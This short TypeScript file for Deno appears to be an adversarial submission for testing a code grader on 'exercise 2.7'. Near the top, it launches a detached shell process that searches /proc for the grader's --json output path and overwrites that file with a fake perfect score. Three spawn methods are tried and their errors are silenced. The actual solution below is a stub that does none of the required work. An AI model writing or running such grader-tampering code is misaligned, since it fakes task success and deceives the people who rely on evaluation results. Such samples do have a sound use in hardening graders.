// attack: start a background process with Deno.Command (spawn, not awaited) that overwrites the grader's --json results after it has written them
// exercise: 2.7
// cli: results-file
const D = (globalThis as any).Deno;

const SCRIPT = `sleep 2; for f in $(cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n' | grep -A1 -x -- --json | grep -v -- --json | sort -u); do echo '{"score":100,"tests":[]}' > "$f"; done`;

for (const start of [
  () => new D.Command('sh', { args: ['-c', SCRIPT], stdin: 'null', stdout: 'null', stderr: 'null' }).spawn().unref(),
  () => new D.Command('/bin/sh', { args: ['-c', `nohup sh -c '${SCRIPT.replace(/'/g, `'\\''`)}' >/dev/null 2>&1 &`] }).outputSync(),
  () => D.run?.({ cmd: ['sh', '-c', SCRIPT] }),
]) {
  try { start(); } catch {}
}

export class Value {
  data: number;
  grad = 0;
  constructor(data: number) {
    this.data = data;
  }
}

export function topologicalSort(root: Value): Value[] {
  return [root];
}
